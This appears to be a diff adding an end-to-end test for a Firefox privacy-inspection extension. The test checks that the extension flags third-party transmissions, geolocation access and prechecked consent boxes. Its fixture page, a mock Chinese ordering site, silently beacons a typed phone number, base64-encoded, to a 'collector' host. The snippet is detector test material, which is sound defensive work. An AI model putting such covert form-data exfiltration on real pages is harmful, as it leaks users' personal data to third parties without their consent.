@@ -1,0 +1,68 @@
+import type { Browser, Page } from 'puppeteer-core'
+import { afterAll, beforeAll, expect, it } from 'vitest'
+import type { Inspection } from '../../src/core/model/inspection'
+import { type Pages, servePages } from '../fixtures/pages'
+import { ask, openExtensionPage, openFirefox, openOptions, popupPath, tabOf } from './firefox'
+
+const SHOP = `<!doctype html><html lang=zh><head><meta charset=utf-8><title>扫码点餐 桌号A1</title><script>
+  navigator.geolocation.getCurrentPosition(() => {}, () => {})
+  fetch('/early?step=fetch').catch(() => {})
+</script></head><body><h1>点餐</h1><form>
+  <label>手机号 <input id=phone type=tel required></label>
+  <label><input type=checkbox checked> 我已阅读并同意《隐私政策》</label>
+  <button>提交订单</button></form>
+<script>document.querySelector('#phone').addEventListener('input', (e) => {
+  if (e.target.value.length === 11)
+    navigator.sendBeacon('http://collector.localhost:' + location.port + '/track', JSON.stringify({ m: btoa(e.target.value) }))
+})</script></body></html>`
+
+let browser: Browser
+let pages: Pages
+let options: Page
+
+beforeAll(async () => {
+  pages = await servePages({ '/t': SHOP })
+  browser = await openFirefox()
+  options = await openOptions(browser)
+})
+
+afterAll(async () => {
+  await browser?.close()
+  await pages?.close()
+})
+
+it('inspects a page from before its first script to what a third party got', async () => {
+  const url = pages.url('/t?table=A1')
+  const page = await browser.newPage()
+  await page.goto(url)
+  await page.type('#phone', '13912345678')
+
+  const tab = await tabOf(options, url)
+  const inspect = async (): Promise<Inspection | null> => ask(options, 'inspection.get', { tab })
+  await expect
+    .poll(async () => (await inspect())?.transmissions.some((t) => t.items.some((item) => item.category === 'phone')), {
+      timeout: 15_000,
+    })
+    .toBe(true)
+
+  const inspection = (await inspect())!
+  expect(inspection.browser.name).toBe('Firefox')
+  expect(inspection.accesses.map((access) => access.api)).toContain('navigator.geolocation.getCurrentPosition')
+  expect(inspection.transmissions.find((t) => t.url.includes('step=fetch'))?.seenBy.toSorted()).toEqual([
+    'browser',
+    'page',
+  ])
+  expect(inspection.fields.map((field) => [field.category, field.required])).toContainEqual(['phone', true])
+  const leak = inspection.transmissions.find((t) => t.recipient.host.startsWith('collector.'))!
+  expect(leak.recipient.party).toBe('third')
+  expect(leak.items.map((item) => [item.category, item.encoding])).toEqual([['phone', ['base64']]])
+  expect(inspection.consent.some((consent) => consent.prechecked)).toBe(true)
+  expect(inspection.findings.map((finding) => finding.rule)).toContain('cn.third_party_before_submit')
+  expect(JSON.stringify(inspection)).not.toContain('13912345678')
+
+  const popup = await openExtensionPage(browser, `${popupPath}?tab=${tab}`)
+  await popup.waitForFunction(() => document.body.innerText.includes('collector.localhost'))
+  expect(await popup.evaluate(() => document.body.innerText)).toContain('手机号')
+  await popup.close()
+  await page.close()
+})
